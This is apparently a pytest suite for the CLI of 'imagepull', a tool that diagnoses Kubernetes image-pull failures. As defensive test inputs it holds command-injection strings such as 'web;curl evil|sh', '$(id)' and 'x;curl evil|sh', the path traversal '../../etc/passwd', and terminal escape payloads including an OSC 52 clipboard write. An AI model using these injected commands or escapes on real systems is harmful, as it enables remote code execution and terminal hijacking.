"""The command line as a process: what is typed goes in, words and exit codes come out, and never a traceback."""

import asyncio
import json
import os
import pty
import re
import resource
import shlex
import signal
import socket
import stat
import subprocess
import sys
import time
from collections.abc import AsyncIterator, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path

import jsonschema
import pytest
import yaml

from bot.cli import output
from tests.fakes.api_server import Asked, FakeApiServer, Fault, Identity


ROOT = Path(__file__).parents[2]
DEMO = ROOT / "bot" / "demo" / "recordings" / "demo"
CLUSTER = ROOT / "tests" / "recordings" / "clusters" / "private-four-namespaces"
IMAGEPULL = Path(sys.executable).with_name("imagepull")
CANARY = "canary-token-4711"


@dataclass(frozen=True)
class Ended:
    """How a call ended."""

    code: int
    out: str
    err: str


def _environment(home: Path, extra: Mapping[str, str] = {}) -> dict[str, str]:
    kept = {key: os.environ[key] for key in ("PATH", "LANG") if key in os.environ}
    return {**kept, "HOME": str(home), "PYTHONWARNINGS": "error", **extra}


@dataclass(frozen=True)
class Terminal:
    """A place to type in, with a home of its own."""

    home: Path

    async def start(
        self, *words: str, program: Path = IMAGEPULL, extra: Mapping[str, str] = {}
    ) -> asyncio.subprocess.Process:
        """Start a call and leave it running."""
        return await asyncio.create_subprocess_exec(
            program,
            *words,
            cwd=self.home,
            env=_environment(self.home, extra),
            stdin=asyncio.subprocess.PIPE,
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.PIPE,
        )

    async def call(self, *words: str, stdin: bytes = b"", extra: Mapping[str, str] = {}) -> Ended:
        """Make a call and wait for its end; whatever it was, there is no traceback and no credential."""
        process = await self.start(*words, extra=extra)
        out, err = await asyncio.wait_for(process.communicate(stdin), 60)
        assert process.returncode is not None
        ended = Ended(process.returncode, out.decode(), err.decode())
        assert "Traceback" not in ended.err
        assert CANARY not in ended.out + ended.err
        return ended

    def kubeconfig(self, servers: Mapping[str, str], *, namespace: str = "", user: object = None) -> Path:
        """A kubeconfig with one context for each server, the first one current."""
        token = user or {"token": CANARY}
        contexts = [
            {
                "name": name,
                "context": {"cluster": name, "user": "me", **({"namespace": namespace} if namespace else {})},
            }
            for name in servers
        ]
        config = {
            "apiVersion": "v1",
            "kind": "Config",
            "current-context": next(iter(servers)),
            "clusters": [{"name": name, "cluster": {"server": url}} for name, url in servers.items()],
            "users": [{"name": "me", "user": token}],
            "contexts": contexts,
        }
        path = self.home / ".kube" / "config"
        path.parent.mkdir(exist_ok=True)
        path.write_text(yaml.safe_dump(config))
        return path


@pytest.fixture
def terminal(tmp_path: Path) -> Terminal:
    """A terminal whose home is empty."""
    return Terminal(tmp_path)


@pytest.fixture
async def server() -> AsyncIterator[FakeApiServer]:
    """A cluster with three causes behind one message."""
    objects = [
        json.loads(path.read_text())
        for path in sorted((CLUSTER / "dump").glob("*.json"))
        if path.name != "registry.json"
    ]
    async with FakeApiServer(objects, tokens={CANARY: Identity()}, date=None) as running:
        yield running


@pytest.fixture
def incidents() -> Sequence[Mapping[str, object]]:
    """What is really wrong there."""
    truth = yaml.safe_load((CLUSTER / "cluster.yaml").read_text())
    found: Sequence[Mapping[str, object]] = truth["incidents"]
    return found


def _causes(text: str) -> list[tuple[str, tuple[str, ...]]]:
    read = json.loads(text)
    jsonschema.validate(read, output.schema())
    return sorted((each["cause"], tuple(sorted(each["pods"]))) for each in read["incidents"])


def _expected(truth: Sequence[Mapping[str, object]]) -> list[tuple[str, tuple[str, ...]]]:
    return sorted((str(each["cause"]), tuple(sorted(each["pods"]))) for each in truth)  # type: ignore[call-overload]


def _said_well(ended: Ended, code: int) -> None:
    """One line, perhaps a hint, and the right code."""
    lines = ended.err.splitlines()
    assert ended.code == code, ended
    assert lines[0].startswith("imagepull: ")
    assert len(lines) <= 2
    assert all(line.startswith("hint: ") for line in lines[1:])
    assert "\x1b" not in ended.err


def _best(command: Sequence[str | Path], home: Path, times: int = 5) -> float:
    found = []
    for _ in range(times):
        begun = time.perf_counter()
        subprocess.run(command, check=True, capture_output=True, env=_environment(home))
        found.append(time.perf_counter() - begun)
    return min(found)


def test_help_answers_at_once(tmp_path: Path) -> None:
    """The help is there in under 0.3 s, or, on a slow machine, in 10 times what an empty Python takes."""
    empty = _best([sys.executable, "-c", "pass"], tmp_path)
    assert _best([IMAGEPULL, "--help"], tmp_path) < max(0.3, 10 * empty)


def test_help_wakes_nobody(tmp_path: Path) -> None:
    """What the help needs is typer; nothing that a command needs is imported before it runs."""
    heavy = ["pydantic", "yaml", "jinja2", "re2", "msgspec", "aiohttp", "kubernetes", "rapidfuzz", "rich"]
    heavy += ["bot.wiring", "bot.settings", "bot.rendering.compose"]
    script = "import sys, bot.cli.main; print([each for each in sys.argv[1:] if each in sys.modules])"
    ended = subprocess.run(
        [sys.executable, "-c", script, *heavy],
        check=True,
        capture_output=True,
        text=True,
        env=_environment(tmp_path),
    )
    assert ended.stdout.strip() == "[]"


@pytest.mark.parametrize(
    "words",
    [
        "--help",
        "-h",
        "why --help",
        "sweep -h",
        "explain --help",
        "dump --help",
        "init --help",
        "playbooks --help",
        "playbooks check --help",
        "playbooks new --help",
        "playbooks render --help",
        "demo --help",
        "--version",
        "",
    ],
)
async def test_help_is_there_for_everything(terminal: Terminal, words: str) -> None:
    """Every command tells what it does and ends well."""
    ended = await terminal.call(*words.split())
    assert ended.code == 0
    assert "imagepull" in ended.out
    assert ended.err == ""


async def test_help_of_commands_shows_examples(terminal: Terminal) -> None:
    """A person copies an example sooner than reading options."""
    assert "imagepull why deploy/web" in (await terminal.call("why", "--help")).out
    assert "imagepull sweep --from dump/" in (await terminal.call("sweep", "--help")).out


async def test_kubectl_plugin_calls_itself_so(terminal: Terminal) -> None:
    """As a plugin it says what one has to type there."""
    process = await terminal.start("--help", program=IMAGEPULL.with_name("kubectl-imagepull"))
    out, _ = await process.communicate()
    assert "kubectl imagepull" in out.decode()


@pytest.mark.parametrize(
    ("words", "said", "hint"),
    [
        (["swep"], "swep", "sweep"),
        (["sweep", "--form", "x"], "--form", "--from"),
        (["sweep", "-o", "yaml"], "'yaml' is not one of", ""),
        (["explain", "x", "-o", "slack"], "-o slack is for why and sweep", "-o json"),
        (["sweep", "-w", "-o", "slack"], "-o slack", "drop one of them"),
        (["why", "--prove", "-o", "slack"], "--prove", "drop one of them"),
        (["sweep", "-n"], "-n", ""),
        (["why", "a/b/c"], "too many parts", "KIND/NAME"),
        (["why", "../../etc/passwd"], "too many parts", ""),
        (["why", "../x"], "'..' cannot be a namespace's name", ""),
        (["why", "web;curl evil|sh"], "cannot be a pod's name", ""),
        (["why", "$(id)"], "cannot be a pod's name", ""),
        (["why", "w\u0435b"], r"'w\u0435b'", "CYRILLIC SMALL LETTER IE"),
        (["why", "w\x1b]52;c;x\x07"], r"'w\x1b]52", ""),
        (["why", "-n", "Not_A_Namespace"], "namespace", ""),
        (["why", "web", "-l", "app=web"], "-l", "one of them"),
        (["why", "web", "-A"], "-A", "-n"),
        (["why", "shop/web", "-n", "pay"], "-n says pay", ""),
        (["why", "-A", "-n", "shop"], "-A", ""),
        (["why", *(f"pod-{number}" for number in range(1000))], "1,000 targets", "sweep"),
        (["why", "-l", "app=web;id"], "label selector", ""),
        (["sweep", "--at", "2026-01-01T00:00:00Z"], "--at", "--from"),
        (["sweep", "--from", ".", "--context", "x"], "--from", "drop"),
        (["sweep", "-c", "x", "--context", "y"], "-c", ""),
        (["sweep", "-c", "nowhere"], "no cluster 'nowhere'", "init"),
        (["sweep", "--stalled-after", "soon"], "'soon' is not a duration", "10m"),
        (["sweep", "--from", ".", "--at", "soon"], "'soon' is not a time", ""),
        (["sweep", "--config", "none.yaml"], "none.yaml", "init"),
        (["sweep", "--kubeconfig", "none"], "none", ""),
        (["playbooks", "chek"], "chek", "check"),
        (["playbooks", "render", "no-such-cause"], "no-such-cause", ""),
        (["dump"], "DIR", ""),
    ],
)
async def test_usage_errors_are_one_line_with_a_hint(
    terminal: Terminal, words: list[str], said: str, hint: str
) -> None:
    """Whatever is typed, the answer is one line that names it, and one that helps."""
    terminal.kubeconfig({"here": "http://127.0.0.1:1"})
    ended = await terminal.call(*words)
    _said_well(ended, 2)
    first, _, second = ended.err.partition("\n")
    assert said in first
    assert hint in second
    assert ended.out == ""


async def test_settings_errors_name_the_nearest_key(terminal: Terminal) -> None:
    """A typing mistake in the settings ends as usage does."""
    (terminal.home / "imagepull.yaml").write_text("clustrs: {}\n")
    ended = await terminal.call("sweep", "--from", str(DEMO))
    _said_well(ended, 2)
    assert "did you mean 'clusters'?" in ended.err


async def test_a_missing_target_is_three(terminal: Terminal) -> None:
    """What is not there says so, and what is near."""
    ended = await terminal.call("why", "api", "--from", str(DEMO))
    _said_well(ended, 3)
    assert "deploy/api" in ended.err


async def test_a_name_in_several_namespaces_is_asked_back(terminal: Terminal) -> None:
    """In a dump there is no current namespace, and nothing is guessed."""
    ended = await terminal.call("why", "deploy/api", "--from", str(DEMO))
    _said_well(ended, 2)
    assert "-n" in ended.err


async def test_no_cluster_at_all_is_four(terminal: Terminal) -> None:
    """Without kubeconfig and pod there is nothing to read."""
    _said_well(await terminal.call("why"), 4)


async def test_a_closed_port_is_four(terminal: Terminal) -> None:
    """A cluster that does not answer ends as unreadable."""
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        terminal.kubeconfig({"down": f"http://127.0.0.1:{taken.getsockname()[1]}"})
        _said_well(await terminal.call("sweep"), 4)


async def test_a_wrong_dump_is_told_in_a_line(terminal: Terminal) -> None:
    """A path that is none, a file that is no JSON, a link that leads out: each is refused by name."""
    assert (await terminal.call("sweep", "--from", "nowhere")).code in (2, 4)
    (terminal.home / "dump").mkdir()
    (terminal.home / "dump" / "pods.json").symlink_to("/etc/hostname")
    ended = await terminal.call("sweep", "--from", "dump")
    _said_well(ended, 2)


async def test_sweep_finds_what_is_wrong(
    terminal: Terminal, server: FakeApiServer, incidents: Sequence[Mapping[str, object]]
) -> None:
    """Against a live API the sweep finds exactly the incidents, each once, with its pods."""
    terminal.kubeconfig({"prod": server.url})
    ended = await terminal.call("sweep", "-o", "json")
    assert ended.code == 0, ended.err
    assert _causes(ended.out) == _expected(incidents)
    assert json.loads(ended.out)["cluster"] == "prod"


async def test_sweep_of_a_dump_of_it_finds_the_same(
    terminal: Terminal, server: FakeApiServer, incidents: Sequence[Mapping[str, object]]
) -> None:
    """A dump written here is diagnosed as the cluster is, and holds no credential."""
    terminal.kubeconfig({"prod": server.url})
    ended = await terminal.call("dump", "-A", "copy")
    assert ended.code == 0, ended.err
    swept = await terminal.call("sweep", "--from", "copy", "-o", "json")
    assert _causes(swept.out) == _expected(incidents)
    secrets = json.loads((terminal.home / "copy" / "secrets.json").read_text())
    assert secrets["items"]
    assert not any("data" in each for each in secrets["items"])


async def test_dump_leaves_other_files_alone(terminal: Terminal, server: FakeApiServer) -> None:
    """A folder with something else in it is not written into."""
    terminal.kubeconfig({"prod": server.url})
    (terminal.home / "notes").write_text("mine")
    _said_well(await terminal.call("dump", "-A", "."), 2)


async def test_why_uses_the_namespace_of_the_context(
    terminal: Terminal, server: FakeApiServer, incidents: Sequence[Mapping[str, object]]
) -> None:
    """Without -n the context's namespace counts, as in kubectl; without a target its failures are listed."""
    pod = str(incidents[0]["pods"][0])  # type: ignore[index]
    namespace, name = pod.split("/")
    terminal.kubeconfig({"prod": server.url}, namespace=namespace)
    listed = await terminal.call("why", "-o", "json")
    assert {each["namespace"] for each in json.loads(listed.out)["failures"]} == {namespace}
    one = await terminal.call("why", name, "-o", "json")
    assert {each["pod"] for each in json.loads(one.out)["failures"]} == {name}
    kinds = await terminal.call("why", "po", name)
    assert kinds.code == 0
    assert str(incidents[0]["cause"]) in kinds.out
    assert "Proof" in kinds.out


async def test_why_takes_a_workload(terminal: Terminal, server: FakeApiServer) -> None:
    """A workload stands for its pods."""
    terminal.kubeconfig({"prod": server.url})
    swept = json.loads((await terminal.call("sweep", "-o", "json")).out)
    first = swept["failures"][0]
    ended = await terminal.call("why", first["workload"], "-n", first["namespace"], "-o", "json")
    found = json.loads(ended.out)["failures"]
    assert {each["workload"] for each in found} == {first["workload"]}


async def test_exit_code_tells_that_something_was_found(terminal: Terminal) -> None:
    """For scripts: 1 when a failure was found, 0 when all is well, and only if asked for."""
    assert (await terminal.call("sweep", "--from", str(DEMO), "--exit-code")).code == 1
    assert (await terminal.call("sweep", "--from", str(DEMO), "--exit-code", "-n", "video")).code == 0
    assert (await terminal.call("sweep", "--from", str(DEMO))).code == 0


async def test_forbidden_reads_degrade_and_are_listed(terminal: Terminal, server: FakeApiServer) -> None:
    """With the rights to look and nothing more there is a diagnosis, and a list of what it lacks."""

    def look(asked: Asked) -> bool:
        return asked.resource in ("pods", "events", "namespaces")

    server.tokens = {CANARY: Identity(allow=look)}
    terminal.kubeconfig({"prod": server.url})
    ended = await terminal.call("sweep", "-o", "json")
    assert ended.code == 0, ended.err
    read = json.loads(ended.out)
    assert read["failures"]
    assert any("forbidden" in each["why"] for each in read["unchecked"])


async def test_several_clusters_are_swept_at_once(terminal: Terminal, server: FakeApiServer) -> None:
    """Every cluster of the settings is named in the answer; one that is down decides the code, after the rest."""
    terminal.kubeconfig({"good": server.url, "bad": "http://127.0.0.1:1"})
    (terminal.home / "imagepull.yaml").write_text("clusters: {one: {context: good}, two: {context: bad}}\n")
    ended = await terminal.call("sweep")
    assert ended.code == 4
    assert re.search(r"^one: 4 incidents", ended.out, re.MULTILINE)
    assert re.search(r"^imagepull: two: ", ended.err, re.MULTILINE)
    alone = await terminal.call("sweep", "-c", "one", "-o", "json")
    assert (alone.code, json.loads(alone.out)["cluster"]) == (0, "one")
    near = await terminal.call("sweep", "-c", "onne")
    assert "did you mean one?" in near.err


async def test_settings_leave_namespaces_out(
    terminal: Terminal, server: FakeApiServer, incidents: Sequence[Mapping[str, object]]
) -> None:
    """What the settings exclude is not looked at."""
    namespace = str(incidents[0]["pods"][0]).split("/")[0]  # type: ignore[index]
    terminal.kubeconfig({"good": server.url})
    settings = {"clusters": {"one": {"context": "good", "namespaces": {"exclude": [namespace]}}}}
    (terminal.home / "imagepull.yaml").write_text(yaml.safe_dump(settings))
    ended = await terminal.call("sweep", "-o", "json")
    assert namespace not in {each["namespace"] for each in json.loads(ended.out)["failures"]}
    assert len(json.loads(ended.out)["incidents"]) == len(incidents) - 1


def _plugin(home: Path) -> object:
    program = home / "get-token"
    answer = {
        "apiVersion": "client.authentication.k8s.io/v1",
        "kind": "ExecCredential",
        "status": {"token": CANARY},
    }
    program.write_text(f"#!/bin/sh\necho '{json.dumps(answer)}'\n")
    program.chmod(program.stat().st_mode | stat.S_IXUSR)
    return {
        "exec": {
            "apiVersion": "client.authentication.k8s.io/v1",
            "command": str(program),
            "interactiveMode": "Never",
        }
    }


@pytest.mark.attack(24, "exec plugin")
async def test_the_users_own_plugin_runs_unless_forbidden(terminal: Terminal, server: FakeApiServer) -> None:
    """A kubeconfig's credential program is started as kubectl does; --no-exec forbids it."""
    terminal.kubeconfig({"prod": server.url}, user=_plugin(terminal.home))
    assert (await terminal.call("sweep")).code == 0
    _said_well(await terminal.call("sweep", "--no-exec"), 4)


async def test_interruption_is_six(terminal: Terminal, server: FakeApiServer) -> None:
    """Ctrl-C ends quickly, with a word and no traceback."""
    arrived = asyncio.Event()
    server.faults.append(Fault(on=lambda _: True, times=-1, hang=True, first=arrived.set))
    terminal.kubeconfig({"prod": server.url})
    process = await terminal.start("sweep")
    await asyncio.wait_for(arrived.wait(), 30)
    process.send_signal(signal.SIGINT)
    _, err = await asyncio.wait_for(process.communicate(), 10)
    assert process.returncode == 6
    assert err.decode() == "imagepull: interrupted\n"


@pytest.mark.parametrize(
    "words", [["sweep", "--from", str(DEMO)], ["--help"], ["explain"], ["demo", "--story"]]
)
async def test_a_closed_pipe_is_no_error(terminal: Terminal, words: list[str]) -> None:
    """When nobody reads on, the call ends in silence."""
    read, write = os.pipe()
    os.close(read)
    process = await asyncio.create_subprocess_exec(
        IMAGEPULL,
        *words,
        cwd=terminal.home,
        env=_environment(terminal.home),
        stdin=asyncio.subprocess.PIPE,
        stdout=write,
        stderr=asyncio.subprocess.PIPE,
    )
    os.close(write)
    _, err = await asyncio.wait_for(process.communicate(b"ErrImagePull\n" * 1000), 30)
    assert err == b""
    assert process.returncode == 0


@pytest.mark.parametrize(
    ("redirected", "code", "line"),
    [
        ("explain <&-", 0, ""),
        ("explain x >&-", 2, "imagepull: stdout is closed"),
        ("explain x >/dev/full", 5, "imagepull: the answer cannot be written: No space left on device"),
        (f"sweep --from {DEMO} >/dev/full", 5, "imagepull: the answer cannot be written: No space left"),
        ("nothing 2>&-", 2, ""),
    ],
)
async def test_odd_streams_are_no_fault_of_ours(
    terminal: Terminal, redirected: str, code: int, line: str
) -> None:
    """Closed and full ones are told in a line."""
    process = await asyncio.create_subprocess_shell(
        f"{IMAGEPULL} {redirected}",
        cwd=terminal.home,
        env=_environment(terminal.home),
        stderr=asyncio.subprocess.PIPE,
    )
    _, err = await asyncio.wait_for(process.communicate(), 30)
    assert err.decode().startswith(line)
    assert "internal" not in err.decode()
    assert process.returncode == code


async def test_any_encoding_is_enough(terminal: Terminal) -> None:
    """Where stdout cannot say a tick it is spelled, not lost, and not turned into a question mark."""
    rich, plain = [
        await terminal.call("why", "--from", str(DEMO), extra={"PYTHONIOENCODING": each})
        for each in ("utf-8", "ascii")
    ]
    assert plain.code == rich.code == 0
    assert plain.out.isascii()
    assert plain.out.count("?") == rich.out.count("?")


async def test_colour_is_where_it_is_wanted(terminal: Terminal) -> None:
    """A pipe gets plain text, FORCE_COLOR colours it, NO_COLOR wins."""
    words = ("sweep", "--from", str(DEMO))
    assert "\x1b[" not in (await terminal.call(*words)).out
    assert "\x1b[" in (await terminal.call(*words, extra={"FORCE_COLOR": "1"})).out
    both = {"FORCE_COLOR": "1", "NO_COLOR": "1"}
    assert "\x1b[" not in (await terminal.call(*words, extra=both)).out


async def test_columns_are_kept(terminal: Terminal) -> None:
    """Text is as wide as COLUMNS says."""
    words = ("why", "shop/api-59fffb898-dbsxn", "--from", str(DEMO))
    narrow = (await terminal.call(*words, extra={"COLUMNS": "60"})).out
    wide = (await terminal.call(*words, extra={"COLUMNS": "110"})).out
    assert len(narrow.splitlines()) > len(wide.splitlines())


async def test_explain_streams(terminal: Terminal) -> None:
    """Messages go in a line each, and an answer comes out for each."""
    lines = (
        b'{"id": "a", "message": "toomanyrequests: You have reached your pull rate limit"}\nMounting failed\n'
    )
    ended = await terminal.call("explain", "-o", "json", stdin=lines)
    assert ended.code == 0
    first, second = (json.loads(line) for line in ended.out.splitlines())
    assert (first["id"], first["symptom"]) == ("a", "rate-limited")
    assert "rate-limited" in first["possible"]
    assert second["symptom"] is None
    spoken = await terminal.call("explain", "toomanyrequests: You have reached your pull rate limit")
    assert "rate-limited" in spoken.out


async def test_init_writes_what_sweep_reads(terminal: Terminal, server: FakeApiServer) -> None:
    """The settings file of this machine's contexts is complete, private, and never written over unasked."""
    terminal.kubeconfig({"good": server.url, "odd: name": server.url})
    ended = await terminal.call("init")
    assert ended.code == 0, ended.err
    file = terminal.home / "imagepull.yaml"
    assert set(yaml.safe_load(file.read_text())["clusters"]) == {"good", "odd: name"}
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    file.write_text("clusters: {mine: {context: good}}\n")
    again = await terminal.call("init")
    _said_well(again, 2)
    assert "--force" in again.err
    assert "mine" in file.read_text()
    assert (await terminal.call("init", "--force")).code == 0
    assert (await terminal.call("sweep", "-c", "good")).code == 0


async def test_watch_tells_what_changes(terminal: Terminal, server: FakeApiServer) -> None:
    """With -w the first look is told whole, and after it only what is different."""
    terminal.kubeconfig({"prod": server.url})
    process = await terminal.start("sweep", "-w")
    assert process.stdout is not None
    first = await asyncio.wait_for(process.stdout.readline(), 30)
    assert b"4 incidents" in first
    for key in [*server.store._kept["pods"]]:
        server.store.delete("pods", *key)
    async with asyncio.timeout(30):
        while b": over" not in await process.stdout.readline():
            pass
    process.send_signal(signal.SIGINT)
    _, err = await asyncio.wait_for(process.communicate(), 10)
    assert process.returncode == 6
    assert b"Traceback" not in err


@pytest.mark.attack(34, "ANSI", "OSC 52", "rich markup")
async def test_hostile_text_is_shown_and_does_nothing(terminal: Terminal) -> None:
    """Escapes, markup and a shell's characters in a message reach the screen as text."""
    message = "\x1b]52;c;aGk=\x07\x1b[2J [bold]red[/] ErrImagePull \u202e pull access denied, repository does not exist"
    pod = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {
            "name": "web",
            "namespace": "shop",
            "uid": "u",
            "creationTimestamp": "2026-01-01T00:00:00Z",
        },
        "spec": {"containers": [{"name": "web", "image": "x;curl evil|sh"}]},
        "status": {
            "phase": "Pending",
            "containerStatuses": [
                {
                    "name": "web",
                    "image": "x;curl evil|sh",
                    "state": {"waiting": {"reason": "ErrImagePull", "message": message}},
                }
            ],
        },
    }
    (terminal.home / "pod.json").write_text(json.dumps(pod))
    for words in (["why", "web"], ["sweep"], ["why", "web", "-o", "json"]):
        ended = await terminal.call(*words, "--from", "pod.json", extra={"COLUMNS": "110"})
        assert ended.code == 0, ended.err
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f\u202e]", ended.out)
    text = (await terminal.call("why", "web", "--from", "pod.json")).out
    assert "[bold]red[/]" in text
    assert not re.search(r"^\s+(?:kubectl|docker|crictl)\b[^'\n]*;curl", text, re.MULTILINE)


def _spent_by_children() -> float:
    """Seconds of the processor, which others on the machine do not lengthen."""
    spent = resource.getrusage(resource.RUSAGE_CHILDREN)
    return spent.ru_utime + spent.ru_stime


async def test_demo_needs_nothing_and_is_quick(terminal: Terminal) -> None:
    """One command shows a sweep and five diagnoses, in a pipe, with nothing installed."""
    begun = _spent_by_children()
    ended = await terminal.call("demo", "--story")
    assert ended.code == 0
    assert _spent_by_children() - begun < 10
    assert ended.err == ""
    for cause in (
        "pull-secret-not-attached",
        "pull-secret-missing",
        "node-dns",
        "wrong-tag",
        "wrong-architecture",
    ):
        assert f"cause: {cause}" in ended.out


async def _completed(terminal: Terminal, line: str) -> list[str]:
    words = line.split(" ")
    extra = {
        "_IMAGEPULL_COMPLETE": "complete_bash",
        "COMP_WORDS": line,
        "COMP_CWORD": str(len(words) - 1),
    }
    ended = await terminal.call(extra=extra)
    assert ended.err == ""
    return ended.out.split()


async def test_completion_offers_what_is_there(terminal: Terminal, server: FakeApiServer) -> None:
    """Commands, contexts, clusters, namespaces and failing pods."""
    terminal.kubeconfig({"prod": server.url, "proud": server.url})
    (terminal.home / "imagepull.yaml").write_text("clusters: {one: {context: prod}}\n")
    assert "sweep" in await _completed(terminal, "imagepull sw")
    assert await _completed(terminal, "imagepull why --context pr") == ["prod", "proud"]
    assert await _completed(terminal, "imagepull sweep -c ") == ["one"]
    namespaces = await _completed(terminal, "imagepull why -n ns-")
    assert namespaces
    swept = json.loads((await terminal.call("sweep", "-o", "json", "--context", "prod")).out)
    pod = swept["failures"][0]
    assert pod["pod"] in await _completed(terminal, f"imagepull why -n {pod['namespace']} ")


async def test_completion_is_silent_when_it_cannot_know(terminal: Terminal) -> None:
    """No cluster, a broken kubeconfig: nothing is offered and nothing is said."""
    assert await _completed(terminal, "imagepull why -n ") == []
    (terminal.home / ".kube").mkdir()
    (terminal.home / ".kube" / "config").write_text("{")
    assert await _completed(terminal, "imagepull why --context ") == []
    assert await _completed(terminal, "imagepull why ") == []


async def test_kubectl_completes_the_plugin(terminal: Terminal) -> None:
    """Kubectl asks a program of its own name, and wants a directive at the end."""
    program = IMAGEPULL.with_name("kubectl_complete-imagepull")
    process = await terminal.start("why", "--from", str(DEMO), "shop/wor", program=program)
    out, err = await process.communicate()
    assert err == b""
    lines = [line for line in out.decode().splitlines() if line]
    assert lines == ["shop/worker-867bbb5974-h8mkq", ":4"]


async def test_a_listed_incident_leads_to_its_diagnosis(terminal: Terminal) -> None:
    """The command under an incident can be copied as it stands, wherever the answer came from."""
    listed = (await terminal.call("sweep", "--from", str(DEMO))).out
    command = re.search(r"^\s+imagepull (why store/.*)$", listed, re.MULTILINE)
    assert command
    assert "wrong-tag" in (await terminal.call(*shlex.split(command[1]))).out


async def test_a_missing_playbook_folder_is_told(terminal: Terminal) -> None:
    """Knowledge that the settings name and that is not there is never passed over in silence."""
    (terminal.home / "imagepull.yaml").write_text("playbooks: {folder: ~/none}\n")
    ended = await terminal.call("sweep", "--from", str(DEMO))
    _said_well(ended, 2)
    assert "playbooks.folder" in ended.err


async def test_progress_is_shown_to_a_person_who_waits(terminal: Terminal, server: FakeApiServer) -> None:
    """On a terminal a line says what is waited for, after a second, and is wiped before anything else is said."""
    arrived = asyncio.Event()
    server.faults.append(Fault(on=lambda _: True, times=-1, hang=True, first=arrived.set))
    terminal.kubeconfig({"prod": server.url})
    master, slave = pty.openpty()
    process = await asyncio.create_subprocess_exec(
        IMAGEPULL,
        "sweep",
        cwd=terminal.home,
        env=_environment(terminal.home, {"TERM": "xterm"}),
        stdin=asyncio.subprocess.DEVNULL,
        stdout=asyncio.subprocess.PIPE,
        stderr=slave,
    )
    os.close(slave)
    await asyncio.wait_for(arrived.wait(), 30)
    await asyncio.sleep(1.5)
    process.send_signal(signal.SIGINT)
    out, _ = await asyncio.wait_for(process.communicate(), 10)
    said = os.read(master, 65536).decode()
    os.close(master)
    assert out == b""
    assert "sweeping the cluster" in said
    assert said.endswith("\r\x1b[2Kimagepull: interrupted\r\n")


async def test_rights_in_one_namespace_are_enough_for_it(
    terminal: Terminal, server: FakeApiServer, incidents: Sequence[Mapping[str, object]]
) -> None:
    """A developer who may read only a namespace gets its diagnosis, and is told that the rest was not seen."""
    namespace = str(incidents[0]["pods"][0]).split("/")[0]  # type: ignore[index]
    server.tokens = {CANARY: Identity(allow=lambda asked: asked.namespace == namespace)}
    terminal.kubeconfig({"prod": server.url}, namespace=namespace)
    for words in (["why"], ["sweep"]):
        ended = await terminal.call(*words, "-o", "json")
        assert ended.code == 0, ended.err
        read = json.loads(ended.out)
        assert {each["namespace"] for each in read["failures"]} == {namespace}
    assert read["unchecked"]


@pytest.mark.parametrize(
    ("shell", "extra"),
    [
        ("zsh", {"_TYPER_COMPLETE_ARGS": "imagepull swe"}),
        ("fish", {"_TYPER_COMPLETE_ARGS": "imagepull swe", "_TYPER_COMPLETE_FISH_ACTION": "get-args"}),
        ("bash", {"COMP_WORDS": "imagepull swe", "COMP_CWORD": "1"}),
    ],
)
async def test_every_shell_completes(terminal: Terminal, shell: str, extra: Mapping[str, str]) -> None:
    """Bash, zsh and fish get their own kind of answer."""
    ended = await terminal.call(extra={"_IMAGEPULL_COMPLETE": f"complete_{shell}", **extra})
    assert "sweep" in ended.out
    assert "explain" not in ended.out
    assert ended.err == ""
